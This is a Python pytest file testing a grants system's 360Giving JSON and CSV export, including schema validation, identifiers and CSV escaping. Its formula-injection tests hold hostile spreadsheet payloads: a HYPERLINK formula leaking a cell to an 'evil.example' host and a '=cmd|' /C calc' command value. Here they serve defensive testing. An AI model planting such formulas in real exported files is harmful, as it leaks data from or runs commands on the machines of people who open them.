"""360Giving open-data export: the package validates against the official schemas, the CSV is
safe to open in a spreadsheet and reads back as written."""

import csv
import io
import json
import os
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grants.domain.audit_chain import canonical_json
from grants.domain.opendata import (
    ARTFORM_TITLES,
    ARTFORM_VOCABULARY,
    CSV_LABELS,
    DANGEROUS_PREFIXES,
    TIER_CODES,
    TIER_TITLES,
    TIER_VOCABULARY,
    Award,
    Funder,
    Publisher,
    Recipient,
    csv_rows,
    grant_id,
    json_amount,
    neutralise,
    organisation_id,
    package,
    to_csv,
    to_json,
)
from grants.domain.vocabulary import ARTFORMS

D = Decimal
PREFIX = "aecf"
GRANT_SCHEMA_URL = (
    "https://raw.githubusercontent.com/ThreeSixtyGiving/standard/1.4.2/schema/"
    "360-giving-schema.json"
)

FUNDER = Funder("Asia-Europe Culture Fund", "XI-EXAMPLE-AECF", "SG")
PUBLISHER = Publisher(
    "Asia-Europe Culture Fund",
    identifier="XI-EXAMPLE-AECF",
    website="https://culture.example.org/",
    logo="https://culture.example.org/logo.png",
)


def award(reference="AECF-2026-0003", **changes):
    """A JPY award: Japanese lead, Thai and Myanmar partners, one without an org-id."""
    base = Award(
        reference=reference,
        title="Shadow puppets across the Mekong",
        description="A touring co-production of shadow theatre.",
        currency="JPY",
        amount_awarded=D("1500000"),
        amount_requested=D("1800000"),
        award_date=date(2026, 3, 14),
        recipients=[
            Recipient("劇団かげぼうし", "JP-JCN-1234567890123", "JP", "lead", "0"),
            Recipient("คณะหนังใหญ่", None, "TH", "partner", "1"),
            Recipient("Yangon Puppet Collective", None, "MM", "partner", "2"),
        ],
        artforms=["theatre", "crafts"],
        call_title="Co-creation 2026",
        call_reference="AECF-2026",
        funder=FUNDER,
        planned_start=date(2026, 5, 1),
        planned_end=date(2027, 4, 30),
        programme="Asia-Europe co-creation",
        data_source="https://grants.example.org/calls/7/awards",
        url="https://grants.example.org/awards/AECF-2026-0003",
    )
    return replace(base, **changes)


def awards():
    return [
        award(),
        award(
            reference="AECF-2026-0007",
            title="Glass and lacquer",
            currency="EUR",
            amount_awarded=D("24500.50"),
            amount_requested=D("30000.00"),
            recipients=[
                Recipient("Sklárna Example s.r.o.", "CZ-ICO-12345678", "CZ", "lead", "0"),
                Recipient("Bangkok Lacquer Studio", None, "TH", "partner", "1"),
            ],
            artforms=["crafts", "design"],
            planned_start=None,
            planned_end=None,
            programme=None,
            url=None,
        ),
        award(
            reference="AECF-2026-0011",
            title="Minimal record",
            recipients=[Recipient("Mandalay Arts", None, "MM", "lead")],
            artforms=[],
            planned_start=None,
            planned_end=None,
            programme=None,
            data_source=None,
            url=None,
        ),
    ]


def build(items=None, **overrides):
    kwargs = {
        "prefix": PREFIX,
        "publisher": PUBLISHER,
        "publish_date": date(2026, 4, 1),
        "uri": "https://grants.example.org/opendata/aecf-2026.json",
        "license": "https://creativecommons.org/licenses/by/4.0/",
        "title": "Asia-Europe Culture Fund grants 2026",
        "access_url": "https://grants.example.org/opendata/",
    }
    kwargs.update(overrides)
    return package(awards() if items is None else items, **kwargs)


# --- schema validation ---------------------------------------------------------------------


def schema_dir():
    override = os.environ.get("GRANTS_360GIVING_SCHEMAS")
    if override:
        return Path(override)
    return Path(__file__).resolve().parents[3] / "shared" / "data" / "360giving"


@pytest.fixture(scope="module")
def validator():
    """The official package schema, with the grant schema registered under its 1.4.2 URL."""
    directory = schema_dir()
    package_file = directory / "360-giving-package-schema.json"
    grant_file = directory / "360-giving-schema.json"
    if not (package_file.is_file() and grant_file.is_file()):
        pytest.skip(
            f"360giving schemas not found at {directory} "
            "(set GRANTS_360GIVING_SCHEMAS to the folder holding them)"
        )
    from jsonschema import Draft202012Validator, FormatChecker
    from referencing import Registry
    from referencing.jsonschema import DRAFT202012

    package_schema = json.loads(package_file.read_text(encoding="utf-8"))
    grant_schema = json.loads(grant_file.read_text(encoding="utf-8"))
    registry = Registry().with_resources(
        [
            (GRANT_SCHEMA_URL, DRAFT202012.create_resource(grant_schema)),
            (package_schema["$id"], DRAFT202012.create_resource(package_schema)),
        ]
    )
    checker = FormatChecker()
    # Without date-time checking, YYYY-MM-DD dates match both branches of a oneOf and fail.
    assert "date-time" in checker.checkers, "install rfc3339-validator"
    return Draft202012Validator(package_schema, registry=registry, format_checker=checker)


def errors(validator, data):
    return [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(data)]


def test_package_is_valid_against_the_official_schema(validator):
    data = json.loads(to_json(build()))
    assert errors(validator, data) == []


def test_minimal_package_is_valid(validator):
    minimal = award(
        recipients=[Recipient("Mandalay Arts", None, "MM", "lead")],
        artforms=[],
        planned_start=None,
        planned_end=None,
        programme=None,
        data_source=None,
        url=None,
    )
    data = package(
        [minimal],
        prefix=PREFIX,
        publisher=Publisher("Fund"),
        publish_date=date(2026, 1, 1),
        uri="https://grants.example.org/a.json",
        license="https://creativecommons.org/licenses/by/4.0/",
    )
    assert errors(validator, json.loads(to_json(data))) == []


def test_validator_is_not_vacuous(validator):
    """The same validator rejects a broken grant, so a pass above means something."""
    data = json.loads(to_json(build()))
    data["grants"][0]["amountAwarded"] = "1500000"
    del data["grants"][1]["recipientOrganization"]
    data["grants"][2]["awardDate"] = "14/03/2026"
    assert len(errors(validator, data)) >= 3


def test_kosovo_has_a_named_location_without_a_country_code(validator):
    item = award(
        recipients=[
            Recipient("Prishtina Dance", None, "XK", "lead", "1"),
            Recipient("Hanoi Dance", None, "VN", "partner", "2"),
        ]
    )
    data = build([item])
    grant = data["grants"][0]
    assert grant["beneficiaryLocation"][0] == {"name": "Kosovo"}
    assert grant["beneficiaryLocation"][1]["countryCode"] == "VN"
    assert "countryCode" not in grant["recipientOrganization"][0]["location"][0]
    assert errors(validator, json.loads(to_json(data))) == []


# --- content -------------------------------------------------------------------------------


def test_package_metadata():
    data = build()
    assert data["version"] == "1.4"
    assert data["issued"] == "2026-04-01"
    assert (
        data["identifier"]
        == data["downloadURL"]
        == ("https://grants.example.org/opendata/aecf-2026.json")
    )
    assert data["license"] == "https://creativecommons.org/licenses/by/4.0/"
    assert data["publisher"] == {
        "name": "Asia-Europe Culture Fund",
        "identifier": "XI-EXAMPLE-AECF",
        "website": "https://culture.example.org/",
        "logo": "https://culture.example.org/logo.png",
    }
    assert "description" not in data


def test_grant_ids_use_the_prefix_and_reference():
    ids = [g["id"] for g in build()["grants"]]
    assert ids == [
        "360G-aecf-AECF-2026-0003",
        "360G-aecf-AECF-2026-0007",
        "360G-aecf-AECF-2026-0011",
    ]
    assert grant_id("aecf", "X-1") == "360G-aecf-X-1"


def test_beneficiary_locations_are_partner_countries_lead_first():
    grants = build()["grants"]
    codes = [[loc["countryCode"] for loc in g["beneficiaryLocation"]] for g in grants]
    assert codes == [["JP", "TH", "MM"], ["CZ", "TH"], ["MM"]]
    assert grants[0]["beneficiaryLocation"][0] == {"countryCode": "JP", "name": "Japan"}


def test_repeated_partner_country_is_listed_once():
    item = award(
        recipients=[
            Recipient("A", None, "TH", "partner"),
            Recipient("B", None, "JP", "lead"),
            Recipient("C", None, "TH", "partner"),
        ]
    )
    locations = build([item])["grants"][0]["beneficiaryLocation"]
    assert [loc["countryCode"] for loc in locations] == ["JP", "TH"]


def test_only_the_lead_is_the_recipient_organisation():
    grant = build()["grants"][0]
    assert grant["recipientOrganization"] == [
        {
            "id": "JP-JCN-1234567890123",
            "name": "劇団かげぼうし",
            "addressCountry": "Japan",
            "location": [{"countryCode": "JP", "name": "Japan"}],
        }
    ]
    assert grant["fundingOrganization"][0]["id"] == "XI-EXAMPLE-AECF"
    assert grant["fundingOrganization"][0]["addressCountry"] == "Singapore"


def test_organisations_without_org_id_get_a_stable_prefixed_id():
    grants = build()["grants"]
    lead = grants[2]["recipientOrganization"][0]
    assert lead["id"].startswith("360G-aecf-org-MM-")
    assert len(lead["id"].rsplit("-", 1)[1]) == 12
    # The same organisation, written differently, keeps its identifier across awards.
    assert lead["id"] == organisation_id(PREFIX, "  MANDALAY   arts ", "MM")
    assert (
        lead["id"]
        == build([award(recipients=[Recipient("mandalay arts", None, "MM", "lead")])])["grants"][0][
            "recipientOrganization"
        ][0]["id"]
    )
    # Full-width and half-width forms are one name (NFKC).
    assert organisation_id(PREFIX, "Ａｒｔｓ", "JP") == organisation_id(PREFIX, "Arts", "JP")
    assert organisation_id(PREFIX, "Arts", "JP") != organisation_id(PREFIX, "Arts", "TH")
    assert organisation_id(PREFIX, "Arts", "JP") != organisation_id(PREFIX, "Crafts", "JP")
    assert organisation_id(PREFIX, "Arts", "JP", "GB-CHC-1") == "GB-CHC-1"


def test_classifications_carry_artforms_and_partner_tiers():
    grants = build()["grants"]
    assert grants[0]["classifications"] == [
        {"vocabulary": ARTFORM_VOCABULARY, "code": "theatre", "title": "Theatre"},
        {"vocabulary": ARTFORM_VOCABULARY, "code": "crafts", "title": "Crafts"},
        {"vocabulary": TIER_VOCABULARY, "code": "0", "title": "Tier 0: high income"},
        {"vocabulary": TIER_VOCABULARY, "code": "1", "title": "Tier 1: upper-middle income"},
        {"vocabulary": TIER_VOCABULARY, "code": "2", "title": "Tier 2: lower-middle income"},
    ]
    assert grants[2]["classifications"] == []


def test_vocabulary_titles_cover_every_key():
    assert set(ARTFORM_TITLES) == set(ARTFORMS)
    assert set(TIER_TITLES) == set(TIER_CODES) == {"0", "1", "2", "3"}


def test_programmes_dates_and_links():
    first, second, _ = build()["grants"]
    assert first["grantProgramme"] == [
        {"code": "AECF-2026", "title": "Co-creation 2026"},
        {"title": "Asia-Europe co-creation"},
    ]
    assert second["grantProgramme"] == [{"code": "AECF-2026", "title": "Co-creation 2026"}]
    assert first["plannedDates"] == [{"startDate": "2026-05-01", "endDate": "2027-04-30"}]
    assert "plannedDates" not in second
    assert first["awardDate"] == "2026-03-14"
    assert first["fromOpenCall"] == "Yes"
    assert first["url"] == "https://grants.example.org/awards/AECF-2026-0003"
    assert first["dataSource"] == "https://grants.example.org/calls/7/awards"
    assert "url" not in second


def test_amounts_are_exact_json_numbers():
    first, second, _ = build()["grants"]
    assert first["currency"] == "JPY"
    assert first["amountAwarded"] == 1500000 and type(first["amountAwarded"]) is int
    assert second["currency"] == "EUR"
    assert second["amountAwarded"] == 24500.5
    assert type(second["amountAppliedFor"]) is int  # 30000.00 is whole
    text = to_json(build())
    assert '"amountAwarded":24500.5' in text
    assert '"amountAwarded":1500000' in text


@given(
    st.decimals(
        min_value=D("0.01"),
        max_value=D("9999999999999.99"),
        places=2,
        allow_nan=False,
        allow_infinity=False,
    )
)
def test_json_amount_round_trips_exactly(amount):
    text = json.dumps(json_amount(amount))
    assert D(text) == amount


@pytest.mark.parametrize(
    "amount", [D("0"), D("-5"), D("1.005"), D("NaN"), D("Infinity"), D("1E13"), 100]
)
def test_bad_amounts_are_refused(amount):
    with pytest.raises(ValueError):
        award(amount_awarded=amount)


def test_to_json_is_canonical_and_deterministic():
    data = build()
    assert to_json(data) == canonical_json(data) == to_json(build())
    assert "劇団かげぼうし" in to_json(data)  # UTF-8, not \u escapes


# --- refused input -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "changes",
    [
        {"recipients": [Recipient("A", None, "JP", "partner")]},
        {"recipients": [Recipient("A", None, "JP", "lead"), Recipient("B", None, "TH", "lead")]},
        {"recipients": []},
        {"artforms": ["opera"]},
        {"currency": "yen"},
        {"award_date": datetime(2026, 3, 14, 12, 0)},
        {"planned_start": date(2026, 5, 1), "planned_end": date(2026, 4, 1)},
        {"reference": "AECF 2026/3"},
        {"title": "  "},
        {"programme": ""},
    ],
)
def test_bad_awards_are_refused(changes):
    with pytest.raises(ValueError):
        award(**changes)


@pytest.mark.parametrize(
    "args",
    [
        ("A", None, "jp", "lead"),
        ("A", None, "JP", "owner"),
        ("A", None, "JP", "lead", "4"),
        ("A", "12345", "JP", "lead"),
        ("", None, "JP", "lead"),
    ],
)
def test_bad_recipients_are_refused(args):
    with pytest.raises(ValueError):
        Recipient(*args)


def test_bad_packages_are_refused():
    with pytest.raises(ValueError, match="at least one grant"):
        build([])
    with pytest.raises(ValueError, match="unique"):
        build([award(), award()])
    with pytest.raises(ValueError, match="360G-"):
        build(prefix="360G-aecf")
    with pytest.raises(ValueError):
        build(prefix="a/b")


def test_artforms_are_deduplicated_in_order():
    assert award(artforms=["music", "dance", "music"]).artforms == ("music", "dance")


# --- CSV -----------------------------------------------------------------------------------


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_header_uses_360giving_titles():
    rows = csv_rows(awards(), PREFIX)
    header = rows[0]
    assert header[:7] == [
        "Identifier",
        "Title",
        "Description",
        "Currency",
        "Amount Awarded",
        "Amount Applied For",
        "Award Date",
    ]
    for title in (
        "Recipient Org:Identifier",
        "Recipient Org:Name",
        "Recipient Org:Country",
        "Funding Org:Identifier",
        "Funding Org:Name",
        "Grant Programme:0:Code",
        "Grant Programme:0:Title",
        "Grant Programme:1:Title",
        "Beneficiary Location:0:Country Code",
        "Beneficiary Location:2:Country Code",
        "Classifications:4:Title",
    ):
        assert title in header
    assert "Beneficiary Location:3:Country Code" not in header
    assert len(rows) == 4
    assert {len(row) for row in rows} == {len(header)}


def test_csv_rows_match_the_package():
    rows = csv_rows(awards(), PREFIX)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    first, second, third = records
    assert first["Identifier"] == "360G-aecf-AECF-2026-0003"
    assert first["Amount Awarded"] == "1500000"
    assert second["Amount Awarded"] == "24500.5"
    assert second["Currency"] == "EUR"
    assert first["Recipient Org:Identifier"] == "JP-JCN-1234567890123"
    assert first["Recipient Org:Country"] == "Japan"
    assert third["Recipient Org:Identifier"] == organisation_id(PREFIX, "Mandalay Arts", "MM")
    assert [first[f"Beneficiary Location:{n}:Country Code"] for n in range(3)] == [
        "JP",
        "TH",
        "MM",
    ]
    assert [second[f"Beneficiary Location:{n}:Country Code"] for n in range(3)] == [
        "CZ",
        "TH",
        "",
    ]
    assert first["Planned Dates:Start Date"] == "2026-05-01"
    assert second["Planned Dates:Start Date"] == ""
    assert first["Grant Programme:1:Title"] == "Asia-Europe co-creation"
    assert first["Classifications:0:Code"] == "theatre"
    assert first["From An Open Call?"] == "Yes"


def test_csv_labels_can_be_translated():
    labels = {
        "identifier": "識別子",
        "location_country_code": "受益地:{n}:国コード",
    }
    header = csv_rows(awards(), PREFIX, labels=labels)[0]
    assert header[0] == "識別子"
    assert "受益地:1:国コード" in header
    assert "Title" in header  # untranslated keys keep the English title
    with pytest.raises(ValueError, match="unknown"):
        csv_rows(awards(), PREFIX, labels={"titel": "Titel"})
    with pytest.raises(ValueError, match=r"\{n\}"):
        csv_rows(awards(), PREFIX, labels={"location_name": "Ort"})
    assert set(CSV_LABELS) >= set(labels)


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
        "+1",
        "@cmd",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_csv_neutralises_formula_injection(title):
    rows = csv_rows([award(title=title, description=title)], PREFIX)
    back = read(to_csv(rows))
    record = dict(zip(back[0], back[1], strict=True))
    assert record["Title"] == "'" + title
    assert record["Description"] == "'" + title
    for row in back:
        for cell in row:
            assert not cell or cell[0] not in DANGEROUS_PREFIXES


def test_csv_neutralises_hostile_names_and_labels():
    item = award(
        recipients=[Recipient("=cmd|' /C calc'!A0", None, "JP", "lead")],
        funder=Funder("@SUM(1+1)", None, "JP"),
    )
    rows = csv_rows([item], PREFIX, labels={"title": "=Title"})
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Recipient Org:Name"] == "'=cmd|' /C calc'!A0"
    assert record["Funding Org:Name"] == "'@SUM(1+1)"
    assert "'=Title" in rows[0]


def test_to_csv_format():
    text = to_csv([["a", "b,c"], ["line\nbreak", 'quote"d']])
    assert text == 'a,"b,c"\r\n"line\nbreak","quote""d"\r\n'
    assert to_csv([["x"]], bom=True) == "\ufeffx\r\n"


def test_neutralise_examples():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+1") == "'+1"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("@cmd") == "'@cmd"
    assert neutralise("\tx") == "'\tx"
    assert neutralise("\rx") == "'\rx"
    assert neutralise("") == ""
    assert neutralise("Theatre = life") == "Theatre = life"
    assert neutralise("'=already") == "'=already"


@given(st.text())
def test_neutralise_never_starts_with_a_dangerous_character(cell):
    result = neutralise(cell)
    assert not result or result[0] not in DANGEROUS_PREFIXES
    assert result in (cell, "'" + cell)
    assert neutralise(result) == result


@given(st.text().filter(lambda s: not s or s[0] not in DANGEROUS_PREFIXES))
def test_neutralise_is_identity_on_safe_strings(cell):
    assert neutralise(cell) == cell


@given(st.text(st.sampled_from(sorted(DANGEROUS_PREFIXES))), st.text())
def test_neutralise_prefixes_every_dangerous_string(start, rest):
    cell = start[:1] + rest
    if cell and cell[0] in DANGEROUS_PREFIXES:
        assert neutralise(cell) == "'" + cell


@settings(max_examples=200)
@given(st.lists(st.lists(st.text(), min_size=1, max_size=6), min_size=1, max_size=6))
def test_csv_round_trips_through_csv_reader(rows):
    assert read(to_csv(rows)) == [[neutralise(cell) for cell in row] for row in rows]


def test_export_round_trips_through_csv_reader():
    rows = csv_rows(awards(), PREFIX)
    assert read(to_csv(rows)) == rows
    assert read(to_csv(rows, bom=True)[1:]) == rows
